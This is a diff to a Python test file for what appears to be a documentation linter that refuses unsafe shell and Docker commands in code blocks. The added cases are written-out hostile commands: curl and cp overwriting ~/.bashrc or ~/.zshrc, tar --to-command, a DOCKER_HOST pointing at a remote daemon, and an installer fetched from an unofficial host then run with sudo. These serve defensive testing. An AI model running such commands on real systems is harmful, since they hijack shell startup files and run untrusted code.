@@ -65,6 +65,26 @@ REFUSED = {
     "a call's flags": ('prune() {\n  docker image prune "$@"\n}\nprune --all --no-such-flag', 3, "`--no-such-flag`"),
     "a function's arguments outside it": ('docker container rm "$1"', 0, "`$1` where docker reads flags"),
     "docker's own image": ("docker run --rm docker:cli system prune --no-such-flag", 0, "`--no-such-flag`"),
+    # the twelfth attacker's classes
+    "an option that runs a command": ("tar -tvf x.tar --to-command=date", 0, "an option data/cli-rules.yaml"),
+    "a verb that loads a file": ("systemctl link ./x.service", 0, "not one of the verbs"),
+    "a write through a program": ("curl -fsSL https://example.com/x -o ~/.bashrc", 0, "`curl` writes `~/.bashrc`"),
+    "a copy out of the folder": ("cp notes.txt ~/.zshrc", 0, "`cp` writes `~/.zshrc`"),
+    "a value another program prints": ('f="$(echo --force)"', 0, "holds what `echo --force` prints"),
+    "input into a program that runs it": ("newgrp docker <<'EOF'\ndate\nEOF", 0, "input into `newgrp`"),
+    "xargs fed words": ("echo --all | xargs docker image prune", 0, "feed it only docker's ids"),
+    "--format beside -q": ("docker image prune $(docker network ls -q --format '--all')", 0, "may print one"),
+    "an escaped $ in a string": ('[ -v "a[\\$(date)]" ]', 0, "in a string"),
+    "a name zsh acts on": ("path=.", 0, "assigns `path`"),
+    "docker's own variable": ("export DOCKER_HOST=tcp://203.0.113.5:2375", 0, "assigns `DOCKER_HOST`"),
+    "an unfilled placeholder": ("docker container inspect <container> ~/.bashrc", 0, "writes to `~/.bashrc`"),
+    "the shell's last word": ('echo --all\ndocker image prune --force "$_"', 1, "`$_` where docker reads flags"),
+    "a wrapper's option": ("env --unset ls docker system prune", 0, "an option data/cli-rules.yaml does not list"),
+    "the installer from elsewhere": (
+        "curl -fsSL --referer https://get.docker.com https://example.org/x.sh -o get-docker.sh\nsudo sh get-docker.sh",
+        1,
+        "does not fetch from https://get.docker.com",
+    ),
 }
 
 
@@ -124,3 +144,16 @@ def test_a_docker_command_in_a_file_block_is_refused_where_it_is_not_read(lang):
         assert any("--no-such-flag" in p for p in found), found
     else:
         assert any(p.startswith(f"docs/zz-test.md:{FIRST + 1}: a docker command in a `{lang}` block") for p in found)
+
+
+def test_a_dockerfile_names_only_docker_s_own_frontend():
+    sources = dict(_docs())
+    for directive, refused in (("docker/dockerfile:1", False), ("ghcr.io/example/frontend:1", True)):
+        sources["zz-test.md"] = f"{FRONT}```dockerfile\n# syntax={directive}\nFROM alpine:3.22\n```\n"
+        found = [str(p) for p in build_site(sources, catalog.load()).problems if p.path == "docs/zz-test.md"]
+        assert bool(found) == refused and all("BuildKit runs the image" in p for p in found), found
+
+
+def test_arabic_indic_digits_in_code_are_refused_as_right_to_left_letters_are():
+    found = problems_of("docker container rename '\u0661' '\u0662'")
+    assert any("right-to-left" in p for p in found), found
